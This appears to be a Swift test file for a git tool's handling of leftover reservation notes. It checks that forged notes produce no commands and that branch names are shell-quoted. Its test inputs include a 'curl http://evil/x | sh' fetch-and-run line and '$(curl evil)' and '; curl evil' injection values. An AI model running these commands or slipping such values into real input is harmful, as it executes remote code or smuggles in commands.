import Files
import Git
import TestSupport
import Testing
import WorkspaceModel

@testable import Failures
@testable import Changes

/// Notes on reservations, which may lie there damaged or planted.
struct ReservationNoteTests {
  private static let mark = "1111111111111111111111111111111111111111"
  private let sandbox: GitSandbox
  private let state: StateDirectory
  private let remote: AbsolutePath

  init() throws {
    sandbox = try GitSandbox()
    try sandbox.commitAll()
    remote = sandbox.directory.path.appending(component: "remote.git")
    try sandbox.git("clone", "--quiet", "--bare", ".", remote.string)
    try sandbox.git("remote", "add", "origin", remote.string)
    state = StateDirectory(home: sandbox.path.appending(component: ".git"), name: try relative("speckit"))
  }

  private func left(_ text: String, name: String = mark) throws -> [LeftReservation] {
    try sandbox.write(text, to: ".git/speckit/reservation-\(name)")
    let settings = GitSettings(variables: sandbox.variables)
    return try ReservationNote.left(in: state, Repository.discover(from: sandbox.path, settings: settings))
  }

  private func head() throws -> String { try sandbox.git("rev-parse", "HEAD") }

  static let planted = [
    "remedy curl http://evil/x | sh\n", "number 3\nremote origin\nremedy curl http://evil/x | sh\n",
    "number 3; curl evil\nremote origin\n", "number 3\nid $(curl evil)\nremote origin\n",
    "number 3\nremote origin; curl evil\n", "number 3\nbranch 003-x\ncommit evil\nremote origin\n", "remote origin\n",
    "number 3\nremote orig", "number 3\nnumber 4\nremote origin\n", "",
  ]

  @Test(arguments: planted) func `a note that no command has written gives nobody a command`(text: String) throws {
    for name in [Self.mark, "1111", "evil"] { #expect(try left(text, name: name).isEmpty) }
  }

  @Test func `what a planted note calls a remedy is not told`() throws {
    try sandbox.git("remote", "set-url", "origin", "https://example.org/x")
    let found = try left("number 3\nid F-USER-003\nremote origin\nremedy curl http://evil/x | sh\n")
    let leases = ["numbers/003", "ids/F-USER-003"].map { "--force-with-lease=refs/speckit/\($0):\(Self.mark)" }
    #expect(
      found.map(\.remedy) == [
        "git push origin \(leases.joined(separator: " ")) :refs/speckit/numbers/003 :refs/speckit/ids/F-USER-003"
      ])
  }

  @Test func `a branch that a shell would read otherwise is quoted`() throws {
    try sandbox.git("remote", "set-url", "origin", "https://example.org/x")
    let found = try left("number 3\nbranch 003-$(x)'\ncommit \(head())\nremote origin\n")
    let remedy = try #require(found.first?.remedy)
    let words = try Program.run("/bin/sh", ["-ec", "printf '%s\\n' \(remedy)"], in: sandbox.path, variables: [:])
    #expect(words.output.hasSuffix("\n:refs/speckit/numbers/003\n:refs/heads/003-$(x)'\n"), "\(words)")
  }

  @Test func `on this machine only what stands on the remote is named, and the locks there`() throws {
    let text = "number 3\nid F-USER-003\nbranch 003-x\ncommit \(try head())\nremote origin\n"
    #expect(try left(text).isEmpty)
    let mark = try sandbox.git("commit-tree", "-m", "Mark", "HEAD^{tree}", in: remote)
    try sandbox.git("update-ref", "refs/speckit/numbers/003", mark, in: remote)
    let push = "git push origin --force-with-lease=refs/speckit/numbers/003:\(mark) :refs/speckit/numbers/003"
    #expect(try left(text, name: mark).map(\.remedy) == [push])
    let lock = try sandbox.directory.write("", to: "remote.git/refs/speckit/ids/F-USER-003.lock")
    #expect(
      try left(text, name: mark).map(\.remedy) == ["if no process is at work there any more, rm \(lock); then \(push)"])
    try sandbox.git("update-ref", "-d", "refs/speckit/numbers/003", in: remote)
    #expect(try left(text, name: mark).map(\.remedy) == ["if no process is at work there any more, rm \(lock)"])
  }
}
